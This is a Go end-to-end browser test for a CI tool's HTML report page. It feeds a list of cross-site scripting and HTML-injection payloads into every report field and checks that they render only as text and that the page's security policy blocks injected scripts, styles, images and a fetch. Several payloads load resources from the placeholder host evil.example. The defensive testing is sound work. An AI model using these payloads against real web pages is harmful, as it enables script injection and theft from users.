//go:build e2e

package browser

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/portcullis-ci/portcullis/internal/gate"
	"github.com/portcullis-ci/portcullis/internal/report"
)

// hostile want to run, to load something or to get out of their place.
var hostile = []string{
	`<img src=x onerror="window.forged=1">`, `<script>window.forged=1</script>`, `</code></pre><script src="https://evil.example/x.js"></script>`,
	`"><svg onload="window.forged=1">`, `' onmouseover='window.forged=1`, `javascript:window.forged=1`, `</style><style>@import "//evil.example"`,
	`</script><script>window.forged=1//`, `<iframe srcdoc="<script>parent.forged=1</script>">`, `<link rel=stylesheet href=//evil.example/x.css>`,
	`<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<!-- `, `]]>`, `<h1>Gate open</h1>`,
	`{{.Policy}}`, "safe\u202eevil", "&lt;b&gt;", "<form action=//evil.example><button id=fold>", `<input name=apply id=text>`,
}

func TestR29HostileDataStaysText(t *testing.T) {
	r := sample(t, "closed")
	r.Stages[0].Findings, r.Stages[1].Findings, r.Stages[2].Findings = nil, nil, nil
	for i, s := range hostile {
		r.Stages[0].Findings = append(r.Stages[0].Findings, gate.Finding{
			Rule: s, Severity: gate.Critical, Title: s, Message: s, Hint: s, URL: s, Source: s, Controls: []string{s}, Fingerprint: fmt.Sprint(i),
			Location: gate.Location{Path: s, Range: gate.Range{Line: i + 1, Column: 1, EndLine: i + 1, EndColumn: 3}, Object: s},
			Packages: []gate.Package{{Name: s, Installed: s, Fixed: s}}, Fix: &gate.Fix{Path: s, StartLine: 1, EndLine: 1, Replacement: s},
		})
	}
	all := strings.Join(hostile, " ")
	r.Stages[0].Failures[0].Message, r.Stages[0].Notes[0], r.Stages[3].Reason = all, all, all
	r.Images[0].Reference, r.Images[0].Platforms[0].OS, r.Context.Repository, r.Tool.Version = all, all, all, all
	r.Images[0].Signature = &gate.Signature{Identity: all, Digest: all}
	v := show(t, r)
	got := value[[]string](v, `[...document.querySelectorAll(".finding .message")].map((e) => e.textContent).sort()`)
	want := make([]string, len(hostile))
	for i, s := range hostile {
		want[i] = report.Terminal(s)
	}
	slices.Sort(want)
	slices.Sort(got)
	if !slices.Equal(got, want) {
		t.Errorf("the page shows %q, want %q", got, want)
	}
	if value[bool](v, `"forged" in window`) {
		t.Error("data ran as a script")
	}
	if n := value[int](v, `document.querySelectorAll("script, img, iframe, link, base, h1, a:not(.skip), svg, form").length`); n != 4 {
		t.Errorf("the page has %d elements of these kinds, want the script, the heading, the arch and the filter", n)
	}
	v.do(chromedp.SendKeys("#text", "javascript:window")) // the filter still works
	if n := value[int](v, shown); n != 1 {
		t.Errorf("%d findings match, want 1", n)
	}
	v.quiet()
}

// Should a string ever get out of its place, the policy of the page keeps it from doing anything.
func TestR29ThePolicyHolds(t *testing.T) {
	v := show(t, sample(t, "opened"))
	blocked := value[[]string](v, `new Promise((done) => {
		const blocked = [];
		document.addEventListener("securitypolicyviolation", (e) => { blocked.push(e.effectiveDirective); if (blocked.length === 6) done(blocked.sort()); });
		setTimeout(() => done(blocked.sort()), 5000);
		document.body.insertAdjacentHTML("beforeend", '<img src="https://evil.example/p.png" onerror="window.forged=1"><p style="color:red">x</p>');
		const script = document.createElement("script"); script.textContent = "window.forged=1"; document.body.append(script);
		const style = document.createElement("style"); style.textContent = "p{}"; document.body.append(style);
		fetch("https://evil.example/").catch(() => {});
	})`, awaited)
	want := []string{"connect-src", "img-src", "script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem"}
	if !slices.Equal(blocked, want) {
		t.Errorf("the policy blocked %q, want %q", blocked, want)
	}
	if value[bool](v, `"forged" in window`) {
		t.Error("a script ran")
	}
}
